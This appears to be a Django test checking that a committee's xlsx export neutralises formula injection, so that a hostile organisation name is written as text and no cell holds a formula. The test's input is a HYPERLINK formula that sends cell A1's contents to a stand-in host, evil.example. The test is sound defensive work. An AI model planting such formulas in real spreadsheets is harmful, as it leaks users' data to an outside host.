"""The committee's xlsx export."""

from io import BytesIO

from django.urls import reverse
from openpyxl import load_workbook

from apps.organizations.models import Organization


def test_a_formula_looking_organisation_name_is_exported_as_text(client, tenant_a, committee_user):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Школа")'
    Organization.objects.filter(pk=tenant_a.organization.pk).update(short_name=hostile)
    municipality = tenant_a.organization.municipality
    client.force_login(committee_user)

    export = client.get(
        reverse("committee_monitoring:export", kwargs={"municipality_slug": municipality.slug})
    )

    assert export.status_code == 200
    workbook = load_workbook(BytesIO(export.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    names = [cell.value for cell in cells if isinstance(cell.value, str) and hostile in cell.value]
    assert names and all(name == "'" + hostile for name in names)  # on the targets and the numbers
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
